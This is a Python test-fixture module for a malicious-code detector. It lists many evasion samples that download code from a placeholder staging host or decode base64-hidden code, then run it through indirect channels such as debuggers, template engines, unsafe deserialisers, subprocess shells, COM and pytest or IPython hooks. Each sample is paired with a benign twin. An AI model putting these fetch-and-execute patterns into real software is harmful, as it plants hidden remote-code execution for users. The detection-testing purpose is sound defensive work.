"""Ways to run a text, a file or an object, each with what was fetched or hidden; the twins use them on their own."""

from __future__ import annotations

from textwrap import dedent, indent

from pratique.verdict import Verdict
from tests.evasions.sample import CODE, FETCH, INIT, MALICIOUS, SUSPICIOUS, Evasion, b64, evasion

_GET = "import urllib.request\nX = urllib.request.urlopen('https://stage.example.invalid/a').read().decode()\n"
_SAVE = "import urllib.request\nurllib.request.urlretrieve('https://stage.example.invalid/a', '/tmp/hid.py')\n"
_HIDDEN = f"import base64\nX = base64.b64decode('{b64(CODE)}').decode()\n"


def fetched(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """A runner that is handed X, which was fetched at import; the twin hands it what its caller gives."""
    code = dedent(code).lstrip("\n")
    return evasion(title, _GET + code, f"def honest(X):\n{indent(code, '    ')}", verdict)


def _hidden(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """The same with what base64 hid."""
    code = dedent(code).lstrip("\n")
    return evasion(title, _HIDDEN + code, f"def honest(X):\n{indent(code, '    ')}", verdict)


def _saved(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """A runner of a file that was fetched before; the twin runs a file of the caller's."""
    code = dedent(code).lstrip("\n")
    good = f"def honest(path):\n{indent(code.replace(repr('/tmp/hid.py'), 'path'), '    ')}"
    return evasion(title, _SAVE + code, good, verdict)


CASES = (
    fetched(
        "InteractiveInterpreter.runcode",
        """
        import code
        code.InteractiveInterpreter().runcode(compile(X, 'x', 'exec'))
        """,
    ),
    fetched(
        "InteractiveInterpreter's own class",
        """
        import code
        class C(code.InteractiveInterpreter):
            pass
        C().runsource(X, 'x', 'exec')
        """,
    ),
    fetched(
        "InteractiveConsole.push, line by line",
        """
        import code
        c = code.InteractiveConsole()
        for line in X.splitlines():
            c.push(line)
        """,
    ),
    fetched(
        "code.interact with a reader",
        """
        import code
        lines = iter(X.splitlines())
        code.interact(readfunc=lambda prompt='': next(lines), banner='')
        """,
    ),
    fetched(
        "codeop compiles",
        """
        import codeop
        exec(codeop.compile_command(X, 'x', 'exec'))
        """,
    ),
    fetched(
        "codeop.CommandCompiler",
        """
        import codeop
        c = codeop.CommandCompiler()
        eval(c(X, symbol='exec'))
        """,
    ),
    fetched(
        "ast parsed and compiled",
        """
        import ast
        tree = ast.fix_missing_locations(ast.parse(X))
        exec(compile(tree, 'x', 'exec'))
        """,
    ),
    fetched(
        "function of a compiled text",
        """
        import types
        types.FunctionType(compile(X, 'x', 'exec'), {'__builtins__': __builtins__})()
        """,
    ),
    fetched(
        "a function's code is replaced",
        """
        def f():
            pass
        f.__code__ = compile(X, 'x', 'exec')
        f()
        """,
    ),
    fetched(
        "a function's code by replace of constants",
        """
        def f():
            return exec('1')
        f.__code__ = f.__code__.replace(co_consts=(None, X))
        f()
        """,
    ),
    fetched(
        "builtins looked up by a loop",
        """
        import builtins
        for n in dir(builtins):
            if n.startswith('exe') and len(n) == 4:
                getattr(builtins, n)(X)
        """,
    ),
    fetched(
        "bdb",
        """
        import bdb
        bdb.Bdb().run(X)
        """,
    ),
    fetched(
        "bdb.set_trace's runeval",
        """
        import bdb
        bdb.Bdb().runeval(X)
        """,
    ),
    fetched(
        "pdb.Pdb.runctx",
        """
        import pdb
        pdb.Pdb(nosigint=True).runctx(X, {}, {})
        """,
    ),
    fetched(
        "pdb's commands",
        """
        import io, pdb
        pdb.Pdb(stdin=io.StringIO(X)).set_trace()
        """,
    ),
    fetched(
        "cProfile's object runctx",
        """
        import cProfile
        cProfile.Profile().runctx(X, {}, {})
        """,
    ),
    fetched(
        "profile.Profile.run",
        """
        import profile
        profile.Profile().run(X)
        """,
    ),
    fetched(
        "trace.Trace.runctx",
        """
        import trace
        trace.Trace(count=False, trace=False).runctx(X, {}, {})
        """,
    ),
    fetched(
        "timeit, setup by keyword",
        """
        import timeit
        timeit.timeit('pass', setup=X, number=1)
        """,
    ),
    fetched(
        "timeit.Timer.timeit",
        """
        from timeit import Timer
        Timer(X).timeit(1)
        """,
    ),
    fetched(
        "timeit's main",
        """
        import timeit
        timeit.main(['-n', '1', X])
        """,
    ),
    fetched(
        "doctest.testmod of an own module",
        """
        import doctest, types
        m = types.ModuleType('m')
        m.__doc__ = X
        doctest.testmod(m)
        """,
    ),
    fetched(
        "doctest parser and runner",
        """
        import doctest
        t = doctest.DocTestParser().get_doctest(X, {}, 'x', None, 0)
        doctest.DocTestRunner().run(t)
        """,
    ),
    fetched(
        "doctest debug_src",
        """
        import doctest
        doctest.debug_src(X)
        """,
    ),
    fetched(
        "namedtuple of a text",
        """
        import collections
        collections.namedtuple('A', 'x', module=eval(X))
        """,
    ),
    fetched(
        "typing's forward reference",
        """
        import typing
        typing.ForwardRef(X)._evaluate({}, {}, frozenset())
        """,
    ),
    fetched(
        "typing.get_type_hints",
        """
        import typing
        def f():
            pass
        f.__annotations__ = {'a': X}
        typing.get_type_hints(f)
        """,
    ),
    fetched(
        "inspect.signature with eval_str",
        """
        import inspect
        def f(a):
            pass
        f.__annotations__['a'] = X
        inspect.signature(f, eval_str=True)
        """,
    ),
    fetched(
        "gettext's plural form",
        """
        import gettext
        gettext.c2py(X)(1)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "logging's configuration",
        """
        import configparser, io, logging.config
        c = configparser.ConfigParser()
        c.read_file(io.StringIO(X))
        logging.config.fileConfig(c)
        """,
    ),
    fetched(
        "logging's dictionary",
        """
        import json, logging.config
        logging.config.dictConfig(json.loads(X))
        """,
    ),
    fetched(
        "rlcompleter",
        """
        import rlcompleter
        rlcompleter.Completer().attr_matches(X)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "turtle of Tcl",
        """
        import tkinter
        tkinter.Tcl().eval(X)
        """,
    ),
    fetched(
        "Tk's evalfile by createfilehandler",
        """
        import tkinter
        t = tkinter.Tk()
        t.tk.eval(X)
        """,
    ),
    fetched(
        "Jinja2 template",
        """
        import jinja2
        jinja2.Template(X).render()
        """,
    ),
    fetched(
        "Jinja2 environment",
        """
        from jinja2 import Environment
        Environment().from_string(X).render()
        """,
    ),
    fetched(
        "Mako",
        """
        from mako.template import Template
        Template(X).render()
        """,
    ),
    fetched(
        "Chameleon",
        """
        from chameleon import PageTemplate
        PageTemplate(X)()
        """,
    ),
    fetched(
        "Django's template",
        """
        from django.template import Template, Context
        Template(X).render(Context())
        """,
        SUSPICIOUS,
    ),
    fetched(
        "tornado's template",
        """
        from tornado import template
        template.Template(X).generate()
        """,
    ),
    fetched(
        "bottle's template",
        """
        import bottle
        bottle.template(X)
        """,
    ),
    fetched(
        "numexpr",
        """
        import numexpr
        numexpr.evaluate(X)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "pandas.eval",
        """
        import pandas as pd
        pd.eval(X, engine='python')
        """,
    ),
    fetched(
        "DataFrame.query",
        """
        import pandas as pd
        pd.DataFrame().query(X, engine='python')
        """,
    ),
    fetched(
        "sympy",
        """
        import sympy
        sympy.sympify(X)
        """,
    ),
    fetched(
        "sympy's parser",
        """
        from sympy.parsing.sympy_parser import parse_expr
        parse_expr(X)
        """,
    ),
    fetched(
        "yaml.load with a loader",
        """
        import yaml
        yaml.load(X, Loader=yaml.Loader)
        """,
    ),
    fetched(
        "yaml.load, UnsafeLoader",
        """
        from yaml import load, UnsafeLoader
        load(X, UnsafeLoader)
        """,
    ),
    fetched(
        "yaml.full_load_all",
        """
        import yaml
        list(yaml.unsafe_load_all(X))
        """,
    ),
    fetched(
        "ruamel",
        """
        from ruamel.yaml import YAML
        YAML(typ='unsafe').load(X)
        """,
    ),
    fetched(
        "jsonpickle's unpickler",
        """
        import jsonpickle.unpickler, json
        jsonpickle.unpickler.Unpickler().restore(json.loads(X))
        """,
    ),
    fetched(
        "dill.loads",
        """
        import dill
        dill.loads(X.encode())
        """,
    ),
    fetched(
        "cloudpickle",
        """
        import cloudpickle as cp
        cp.loads(X.encode())
        """,
    ),
    fetched(
        "torch.load",
        """
        import io, torch
        torch.load(io.BytesIO(X.encode()), weights_only=False)
        """,
    ),
    fetched(
        "numpy.load with pickles",
        """
        import io, numpy as np
        np.load(io.BytesIO(X.encode()), allow_pickle=True)
        """,
    ),
    fetched(
        "shelve of a fetched file",
        """
        import shelve
        open('/tmp/s.db', 'w').write(X)
        shelve.open('/tmp/s')['a']
        """,
    ),
    fetched(
        "multiprocessing's reducer",
        """
        from multiprocessing.reduction import ForkingPickler
        ForkingPickler.loads(X.encode())
        """,
    ),
    fetched(
        "pickle through pickletools' optimum",
        """
        import pickle, pickletools
        pickle.loads(pickletools.optimize(X.encode()))
        """,
    ),
    fetched(
        "pandas.read_pickle of a buffer",
        """
        import io, pandas
        pandas.read_pickle(io.BytesIO(X.encode()))
        """,
    ),
    fetched(
        "joblib of a buffer",
        """
        import io, joblib
        joblib.load(io.BytesIO(X.encode()))
        """,
    ),
    fetched(
        "a loader of one's own",
        """
        import importlib.abc, importlib.util
        class L(importlib.abc.SourceLoader):
            def get_filename(self, name):
                return 'x'
            def get_data(self, path):
                return X
        spec = importlib.util.spec_from_loader('m', L())
        m = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(m)
        """,
    ),
    fetched(
        "an inspect loader's get_source",
        """
        import importlib.abc, importlib.machinery, sys
        class F(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):
            def find_spec(self, name, path, target=None):
                return importlib.machinery.ModuleSpec(name, self)
            def get_source(self, name):
                return X
        sys.meta_path.append(F())
        import hid
        """,
    ),
    fetched(
        "source_to_code",
        """
        import importlib.abc
        exec(importlib.abc.InspectLoader.source_to_code(X))
        """,
    ),
    fetched(
        "SourceLoader.source_to_code",
        """
        import importlib.machinery, types
        code = importlib.machinery.SourceFileLoader('a', 'a').source_to_code(X, 'a')
        exec(code, types.ModuleType('a').__dict__)
        """,
    ),
    fetched(
        "a module in sys.modules",
        """
        import sys, types
        m = types.ModuleType('hid')
        exec(X, m.__dict__)
        sys.modules['hid'] = m
        """,
    ),
    fetched(
        "runpy._run_code",
        """
        import runpy
        runpy._run_module_code(compile(X, 'x', 'exec'))
        """,
    ),
    fetched(
        "subinterpreter",
        """
        import _xxsubinterpreters as si
        si.run_string(si.create(), X)
        """,
    ),
    fetched(
        "subinterpreter by name",
        """
        import _interpreters
        _interpreters.exec(_interpreters.create(), X)
        """,
    ),
    fetched(
        "subinterpreter of test.support",
        """
        from test.support.script_helper import assert_python_ok
        assert_python_ok('-c', X)
        """,
    ),
    fetched(
        "C's PyRun_SimpleString",
        """
        import ctypes
        ctypes.pythonapi.PyRun_SimpleString(X.encode())
        """,
    ),
    fetched(
        "C's PyRun_String",
        """
        import ctypes
        ctypes.pythonapi.PyRun_SimpleStringFlags(ctypes.c_char_p(X.encode()), None)
        """,
    ),
    fetched(
        "C's Py_CompileString",
        """
        import ctypes
        api = ctypes.pythonapi
        api.Py_CompileString.restype = ctypes.py_object
        exec(api.Py_CompileString(X.encode(), b'x', 257))
        """,
    ),
    fetched(
        "cffi compiles C",
        """
        import cffi
        f = cffi.FFI()
        f.set_source('_m', X)
        f.compile()
        """,
    ),
    fetched(
        "cppyy",
        """
        import cppyy
        cppyy.cppdef(X)
        """,
    ),
    fetched(
        "numba's llvm",
        """
        import llvmlite.binding as llvm
        llvm.parse_assembly(X)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "IPython's run_cell",
        """
        from IPython import get_ipython
        get_ipython().run_cell(X)
        """,
    ),
    fetched(
        "IPython's own shell",
        """
        from IPython.core.interactiveshell import InteractiveShell
        InteractiveShell.instance().run_cell(X)
        """,
    ),
    fetched(
        "nbconvert executes",
        """
        import nbformat
        from nbconvert.preprocessors import ExecutePreprocessor
        ExecutePreprocessor().preprocess(nbformat.reads(X, 4))
        """,
    ),
    fetched(
        "js2py",
        """
        import js2py
        js2py.eval_js(X)
        """,
    ),
    fetched(
        "execjs",
        """
        import execjs
        execjs.eval(X)
        """,
    ),
    fetched(
        "PyMiniRacer",
        """
        from py_mini_racer import MiniRacer
        MiniRacer().eval(X)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "lua",
        """
        import lupa
        lupa.LuaRuntime().execute(X)
        """,
    ),
    fetched(
        "R",
        """
        import rpy2.robjects as ro
        ro.r(X)
        """,
    ),
    fetched(
        "Perl by its option",
        """
        import subprocess
        subprocess.run(['perl', '-e', X])
        """,
    ),
    fetched(
        "node by its standard input",
        """
        import subprocess
        subprocess.run(['node'], input=X, text=True)
        """,
    ),
    fetched(
        "node by its option",
        """
        import subprocess
        subprocess.run(['node', '-e', X])
        """,
    ),
    fetched(
        "AppleScript",
        """
        import subprocess
        subprocess.run(['osascript', '-e', X])
        """,
    ),
    fetched(
        "shell by option",
        """
        import subprocess
        subprocess.run(['bash', '-c', X])
        """,
    ),
    fetched(
        "shell=True",
        """
        import subprocess
        subprocess.Popen(X, shell=True)
        """,
    ),
    fetched(
        "executable by keyword",
        """
        import subprocess
        subprocess.Popen(args=X, executable='/bin/sh', shell=True)
        """,
    ),
    fetched(
        "pty",
        """
        import pty
        pty.spawn(['sh', '-c', X])
        """,
    ),
    fetched(
        "posix_spawn",
        """
        import os
        os.posix_spawn('/bin/sh', ['sh', '-c', X], {})
        """,
    ),
    fetched(
        "execl by its arguments",
        """
        import os
        os.execl('/bin/sh', 'sh', '-c', X)
        """,
    ),
    fetched(
        "python -c of a list",
        """
        import subprocess, sys
        subprocess.Popen([sys.executable, '-c', X])
        """,
    ),
    fetched(
        "python by standard input",
        """
        import subprocess, sys
        p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)
        p.communicate(X.encode())
        """,
    ),
    fetched(
        "PYTHONSTARTUP's environment and -c",
        """
        import os, subprocess, sys
        subprocess.Popen([sys.executable, '-c', 'import os; exec(os.environ["X"])'], env={'X': X})
        """,
    ),
    fetched(
        "asyncio's shell",
        """
        import asyncio
        asyncio.run(asyncio.create_subprocess_shell(X))
        """,
    ),
    fetched(
        "multiprocessing with exec",
        """
        import multiprocessing
        multiprocessing.Process(target=exec, args=(X,)).start()
        """,
    ),
    fetched(
        "a pool's map of eval",
        """
        from concurrent.futures import ThreadPoolExecutor
        with ThreadPoolExecutor() as p:
            p.submit(exec, X)
        """,
    ),
    fetched(
        "WMI",
        """
        import wmi
        wmi.WMI().Win32_Process.Create(CommandLine=X)
        """,
    ),
    fetched(
        "COM's script control",
        """
        import win32com.client as w
        c = w.Dispatch('MSScriptControl.ScriptControl')
        c.Language = 'VBScript'
        c.Eval(X)
        """,
    ),
    fetched(
        "COM's shell",
        """
        from win32com.client import Dispatch
        Dispatch('WScript.Shell').Exec(X)
        """,
    ),
    fetched(
        "clr",
        """
        import clr
        from System.Diagnostics import Process
        Process.Start('cmd', '/c ' + X)
        """,
    ),
    fetched(
        "jpype",
        """
        import jpype
        jpype.java.lang.Runtime.getRuntime().exec(X)
        """,
    ),
    fetched(
        "fabric's local",
        """
        from fabric.api import local
        local(X)
        """,
    ),
    fetched(
        "sh by attribute",
        """
        import sh
        sh.Command('bash')('-c', X)
        """,
    ),
    fetched(
        "plumbum by name",
        """
        from plumbum import local
        local['bash']('-c', X)
        """,
    ),
    fetched(
        "delegator",
        """
        import delegator
        delegator.run(X)
        """,
    ),
    fetched(
        "setuptools' spawn",
        """
        from distutils.spawn import spawn
        spawn(['sh', '-c', X])
        """,
    ),
    fetched(
        "distutils' run_setup",
        """
        from distutils.core import run_setup
        open('/tmp/setup.py', 'w').write(X)
        run_setup('/tmp/setup.py')
        """,
    ),
    fetched(
        "sqlite's extension",
        """
        import sqlite3
        open('/tmp/x.so', 'w').write(X)
        c = sqlite3.connect(':memory:')
        c.enable_load_extension(True)
        c.load_extension('/tmp/x.so')
        """,
    ),
    fetched(
        "SQL function of exec",
        """
        import sqlite3
        c = sqlite3.connect(':memory:')
        c.create_function('f', 1, exec)
        c.execute('select f(?)', (X,))
        """,
    ),
    fetched(
        "string.Formatter's own get_field",
        """
        import string
        class F(string.Formatter):
            def get_value(self, key, args, kwargs):
                return eval(key)
        F().format('{' + X + '}')
        """,
    ),
    fetched(
        "re.sub with exec",
        """
        import re
        re.sub('(?s).+', lambda m: str(exec(m.group())), X)
        """,
    ),
    fetched(
        "optparse's callback",
        """
        import argparse
        p = argparse.ArgumentParser()
        p.add_argument('-x', type=exec)
        p.parse_args(['-x', X])
        """,
    ),
    fetched(
        "argparse's type eval",
        """
        import argparse
        p = argparse.ArgumentParser()
        p.add_argument('x', type=eval)
        p.parse_args([X])
        """,
    ),
    fetched(
        "json's hook",
        """
        import json
        json.loads(X, object_hook=lambda d: exec(d['c']))
        """,
    ),
    fetched(
        "json's parse_constant",
        """
        import json
        json.loads(X, parse_float=eval)
        """,
    ),
    fetched(
        "csv with converters",
        """
        import io, pandas
        pandas.read_csv(io.StringIO(X), converters={'a': eval})
        """,
    ),
    fetched(
        "sqlite's converter",
        """
        import sqlite3
        sqlite3.register_converter('code', eval)
        """,
        SUSPICIOUS,
    ),
    fetched(
        "cmd's shell",
        """
        import cmd
        class C(cmd.Cmd):
            def default(self, line):
                exec(line)
        C().onecmd(X)
        """,
    ),
    fetched(
        "sched",
        """
        import sched
        s = sched.scheduler()
        s.enter(0, 1, exec, (X,))
        s.run()
        """,
    ),
    fetched(
        "weakref's finalizer",
        """
        import weakref
        class A:
            pass
        weakref.finalize(A(), exec, X)
        """,
    ),
    fetched(
        "a display hook",
        """
        import sys
        sys.displayhook = lambda v: exec(v)
        sys.displayhook(X)
        """,
    ),
    fetched(
        "functools.singledispatch",
        """
        import functools
        f = functools.singledispatch(exec)
        f(X)
        """,
    ),
    fetched(
        "operator.call",
        """
        import operator
        operator.call(exec, X)
        """,
    ),
    fetched(
        "unittest's mock",
        """
        from unittest import mock
        mock.Mock(side_effect=exec)(X)
        """,
    ),
    fetched(
        "contextlib's callback",
        """
        import contextlib
        with contextlib.ExitStack() as s:
            s.callback(exec, X)
        """,
    ),
    fetched(
        "codecs' search function",
        """
        import codecs
        codecs.register(lambda name: exec(X))
        'a'.encode('hid')
        """,
    ),
    _saved("runpy.run_path", "import runpy\nrunpy.run_path('/tmp/hid.py')\n"),
    _saved("site.addsitedir of its folder", "import site\nsite.addsitedir('/tmp')\nimport hid\n", SUSPICIOUS),
    _saved(
        "pkgutil's importer", "import pkgutil\npkgutil.get_importer('/tmp').find_module('hid').load_module('hid')\n"
    ),
    _saved(
        "PathFinder",
        "from importlib.machinery import PathFinder\nPathFinder.find_spec('hid', ['/tmp']).loader.load_module()\n",
    ),
    _saved(
        "FileFinder",
        "from importlib.machinery import FileFinder, SourceFileLoader\nFileFinder('/tmp', (SourceFileLoader, ['.py'])).find_spec('hid').loader.load_module()\n",
    ),
    _saved(
        "SourceFileLoader.load_module",
        "from importlib.machinery import SourceFileLoader\nSourceFileLoader('hid', '/tmp/hid.py').load_module()\n",
    ),
    _saved(
        "PYTHONPATH of a child",
        "import os, subprocess, sys\nos.environ['PYTHONPATH'] = '/tmp'\nsubprocess.run([sys.executable, '-m', 'hid'])\n",
    ),
    _saved("-m by its folder", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'hid'], cwd='/tmp')\n"),
    _saved("pdb's run of a script", "import pdb\npdb._runscript('/tmp/hid.py')\n", SUSPICIOUS),
    _saved("unittest discovery", "import unittest\nunittest.TestLoader().discover('/tmp', pattern='hid.py')\n"),
    _saved("pytest.main", "import pytest\npytest.main(['/tmp/hid.py'])\n"),
    _saved("doctest.testfile", "import doctest\ndoctest.testfile('/tmp/hid.py', module_relative=False)\n"),
    _saved(
        "trace of a script", "import subprocess\nsubprocess.run(['python3', '-m', 'trace', '--trace', '/tmp/hid.py'])\n"
    ),
    _saved("nox session", "import subprocess\nsubprocess.run(['make', '-f', '/tmp/hid.py'])\n", SUSPICIOUS),
    _saved("execfile by open in a with", "with open('/tmp/hid.py') as f:\n    exec(f.read())\n"),
    _saved("tokenize.open", "import tokenize\nwith tokenize.open('/tmp/hid.py') as f:\n    exec(f.read())\n"),
    _saved("linecache", "import linecache\nexec(''.join(linecache.getlines('/tmp/hid.py')))\n"),
    _saved("fileinput", "import fileinput\nexec(''.join(fileinput.input('/tmp/hid.py')))\n"),
    _saved(
        "mmap",
        "import mmap, os\nfd = os.open('/tmp/hid.py', os.O_RDONLY)\nexec(mmap.mmap(fd, 0, access=mmap.ACCESS_READ).read())\n",
    ),
    _saved(
        "py_compile, then marshal",
        "import marshal, py_compile\np = py_compile.compile('/tmp/hid.py')\nexec(marshal.loads(open(p, 'rb').read()[16:]))\n",
    ),
    _saved("python of a shell's line", "import os\nos.system('cd /tmp; python3 hid.py')\n"),
    _saved("os.startfile", "import os\nos.startfile('/tmp/hid.py')\n"),
    _saved("webbrowser opens", "import webbrowser\nwebbrowser.open('file:///tmp/hid.py')\n", SUSPICIOUS),
    _saved(
        "moved into the package and imported",
        "import os, shutil\nshutil.move('/tmp/hid.py', os.path.join(os.path.dirname(__file__), 'hid.py'))\nfrom . import hid\n",
    ),
    _hidden(
        "hidden: InteractiveConsole.runcode",
        "import code\ncode.InteractiveConsole().runcode(compile(X, '', 'exec'))\n",
        SUSPICIOUS,
    ),
    _hidden("hidden: subinterpreter", "import _xxsubinterpreters as s\ns.run_string(s.create(), X)\n", SUSPICIOUS),
    _hidden("hidden: PyRun", "import ctypes\nctypes.pythonapi.PyRun_SimpleString(X.encode())\n", SUSPICIOUS),
    _hidden(
        "hidden: typing",
        "import typing\ntyping.get_type_hints(type('A', (), {'__annotations__': {'a': X}}))\n",
        SUSPICIOUS,
    ),
    _hidden("hidden: IPython", "from IPython import get_ipython\nget_ipython().run_cell(X)\n", SUSPICIOUS),
    _hidden(
        "hidden: a function's code replaced", "def f(): pass\nf.__code__ = compile(X, '', 'exec')\nf()\n", SUSPICIOUS
    ),
    _hidden(
        "hidden: exec as a converter",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('x', type=exec)\np.parse_args([X])\n",
        SUSPICIOUS,
    ),
    _hidden(
        "hidden: loader's get_data",
        """
        import importlib.abc, importlib.util
        class L(importlib.abc.SourceLoader):
            def get_filename(self, n): return 'x'
            def get_data(self, p): return X.encode()
        s = importlib.util.spec_from_loader('m', L())
        s.loader.exec_module(importlib.util.module_from_spec(s))
        """,
        SUSPICIOUS,
    ),
    evasion(
        "entry point of pytest",
        {
            "setup.py": "from setuptools import setup\nsetup(entry_points={'pytest11': ['a = example_pkg.hid']})\n",
            INIT: "",
            "example_pkg/hid.py": f"exec({FETCH})\n",
        },
        {
            "setup.py": "from setuptools import setup\nsetup(entry_points={'pytest11': ['a = example_pkg.hid']})\n",
            INIT: "",
            "example_pkg/hid.py": "def pytest_addoption(parser): pass\n",
        },
    ),
    evasion(
        "conftest of the package",
        {INIT: "", "conftest.py": f"exec({FETCH})\n"},
        {INIT: "", "conftest.py": "import pytest\n"},
        SUSPICIOUS,
    ),
    evasion(
        "IPython extension",
        {INIT: f"def load_ipython_extension(ip):\n    exec({FETCH})\n"},
        {INIT: "def load_ipython_extension(ip):\n    ip.push({'a': 1})\n"},
        SUSPICIOUS,
    ),
)
